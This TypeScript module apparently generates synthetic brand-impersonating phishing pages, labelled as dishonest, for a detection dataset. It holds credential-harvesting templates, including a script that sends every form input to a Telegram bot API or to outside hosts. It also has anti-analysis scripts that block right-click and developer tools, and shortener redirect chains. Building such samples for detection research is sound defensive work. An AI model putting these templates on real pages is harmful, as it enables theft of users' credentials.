import { type Brand, calledBy, labelOf } from '../brands.ts'
import type { Chance } from '../chance.ts'
import type { Made } from '../envelope.ts'
import { badPlace, urlAt } from '../hosts/hosts.ts'
import { escaped, footerOf } from '../pages/layout.ts'
import { type Language, WORDS } from '../words/words.ts'

const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** The places of a page that name a brand. */
export interface Clues {
  readonly title: string
  readonly heading: string
  readonly logo: string
  readonly head: string
  readonly footer: string
}

/** Most frauds name their brand in several places, some in one, and a few (3 %) in none that can be read. */
export function cluesOf(brand: Brand, language: Language, action: string, chance: Chance): Clues {
  const name = calledBy(brand, chance)
  const home = `https://www.${brand.domains[0]}`.replace('www.www.', 'www.')
  const isMute = chance.maybe(0.03)
  const shows = {
    title: chance.maybe(0.85),
    heading: chance.maybe(0.45),
    logo: chance.maybe(0.8),
    copyright: chance.maybe(0.65),
  }
  if (!isMute && !Object.values(shows).includes(true)) shows.title = true
  const source = chance.of([
    PIXEL,
    './files/logo.svg',
    'img/logo.png',
    `assets/${labelOf(brand)}-logo.png`,
    `${home}/assets/logo.svg`,
  ])
  const named = escaped(name)
  const logo = chance.of([
    `<img src="${source}" alt="${named}" width="120">`,
    `<a href="#" class="logo">${named}</a>`,
    `<img class="logo" src="${source}" alt="${named} logo">`,
    `<svg role="img" aria-label="${named}" width="100" height="30"><title>${named}</title><path d="M0 0h10v10z"/></svg>`,
    `<div id="logo"><a href="/"><img src="${source}" alt="${named}" title="${named}"></a></div>`,
  ])
  const titles = [
    `${action} - ${name}`,
    `${name}: ${action}`,
    `${action} | ${name}`,
    name,
    `${name} ${action}`,
  ]
  const icon = chance.of([
    '',
    '<link rel="icon" href="favicon.ico">',
    `<link rel="shortcut icon" href="${home}/favicon.ico">`,
  ])
  const social = chance.maybe(0.15) ? `<meta property="og:site_name" content="${named}">` : ''
  const hidden = chance.maybe(0.3) ? '<meta name="robots" content="noindex,nofollow">' : ''
  return {
    title: isMute || !shows.title ? action : chance.of(titles),
    heading: isMute || !shows.heading ? action : chance.of([`${action} ${name}`, `${name} ${action}`, name]),
    logo: isMute || !shows.logo ? `<img src="${PIXEL}" width="120">` : logo,
    head: `${icon}${isMute ? '' : social}${hidden}${chance.maybe(0.12) ? copiedHead(home, chance) : ''}`,
    footer:
      isMute || !shows.copyright
        ? ''
        : footerOf(language, name, chance.of([['#'], [home, `${home}/help`]]), chance),
  }
}

/** The head of a page that was saved from the brand's own site. */
function copiedHead(home: string, chance: Chance): string {
  const sheets = Array.from(
    { length: 2 + chance.below(3) },
    () => `<link rel="stylesheet" href="${home}/assets/${chance.hex(8)}.css">`,
  )
  return `<!-- saved from url=(0024)${home}/login --><link rel="canonical" href="${home}/login">${sheets.join('')}<script src="${home}/assets/${chance.hex(8)}.js"></script>`
}

/** A form of a fraud; mostly it posts to its own folder, else to a bot, a form service or another host. */
export function formOf(
  fields: string,
  submit: string,
  chance: Chance,
): { readonly form: string; readonly script: string } {
  const bot = `https://api.telegram.org/bot${chance.digits(10)}:AA${chance.base64(33).replace(/[+/]/g, 'x')}/sendMessage`
  const collect = `var f=document.forms[0];f.addEventListener("submit",function(e){e.preventDefault();var d=new FormData(f);`
  const open = (attributes: string) => `<form ${attributes}>${fields}${submit}</form>`
  const local = chance.of([
    'login.php',
    'post.php',
    'next.php',
    'verify',
    'submit.php',
    'process/',
    'index.php?step=2',
    `${chance.hex(6)}.php`,
  ])
  return chance.of([
    () => ({ form: open(`method="post" action="${local}"`), script: '' }),
    () => ({ form: open(`action="./${local}" method="POST" autocomplete="off"`), script: '' }),
    () => ({ form: open('method="post" action=""'), script: '' }),
    () => ({
      form: open('id="frm" onsubmit="return send()"'),
      script: `<script>function send(){var x=new XMLHttpRequest();x.open("POST","${local}");x.send(new FormData(document.getElementById("frm")));return false}</script>`,
    }),
    () => ({
      form: open('method="post"'),
      script: `<script>${collect}fetch("${bot}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"${chance.digits(9)}",text:[...d].join("\\n")})}).then(function(){location.href="https://www.google.com"})})</script>`,
    }),
    () => ({
      form: open(
        `method="post" action="https://${chance.name(4)}.${chance.of(['top', 'xyz', 'ru', 'com'])}/${local}"`,
      ),
      script: '',
    }),
    () => ({ form: open(`method="post" action="https://formspree.io/f/${chance.letters(8)}"`), script: '' }),
    () => ({
      form: `<div class="form">${fields}${submit.replace('type="submit"', 'type="button" onclick="go()"')}</div>`,
      script: `<script>function go(){fetch('/api/${chance.hex(5)}',{method:'POST',body:JSON.stringify([].map.call(document.querySelectorAll('input'),function(i){return i.value}))})}</script>`,
    }),
  ])()
}

/** Code that kits carry against analysis. */
export function kitExtras(chance: Chance): string {
  const extras: string[] = []
  if (chance.maybe(0.12))
    extras.push(
      '<script>document.addEventListener("contextmenu",function(e){e.preventDefault()});document.onkeydown=function(e){if(e.keyCode==123||(e.ctrlKey&&e.keyCode==85))return false}</script>',
    )
  if (chance.maybe(0.08))
    extras.push(
      `<script>eval(function(p,a,c,k,e,d){return p}('0 1="${chance.base64(400)}"',62,2,'var|x'.split('|'),0,{}))</script>`,
    )
  if (chance.maybe(0.08))
    extras.push(`<script src="/cdn-cgi/challenge-platform/scripts/jsd/main.js"></script>`)
  return extras.join('')
}

/** Addresses that redirect to the fraud; mostly none. */
export function wayTo(url: string, chance: Chance): readonly string[] {
  if (chance.maybe(0.7)) return []
  const through = chance.of([
    `https://${chance.of(['bit.ly', 'tinyurl.com', 't.co', 'is.gd', 'cutt.ly'])}/${chance.base64(7).replace(/[+/]/g, 'a')}`,
    `https://${chance.name(3)}.${chance.of(['com', 'net', 'info'])}/r/${chance.hex(12)}`,
    `https://www.google.com/url?q=${encodeURIComponent(url)}`,
  ])
  return chance.maybe(0.25) ? [`https://click.${chance.name(3)}.com/${chance.hex(10)}`, through] : [through]
}

/** A fraud in a brand's name. */
export function fraudOf(brand: Brand, body: string, chance: Chance): Made {
  const url = urlAt(
    badPlace(brand, chance),
    chance.of(['', '', 'index.html', 'login', `?id=${chance.hex(10)}`]),
  )
  return { url, body, way: wayTo(url, chance), isHonest: false }
}

export function pressing(language: Language, chance: Chance): string {
  return `<p>${escaped(chance.of(WORDS[language].pressing))}</p>`
}
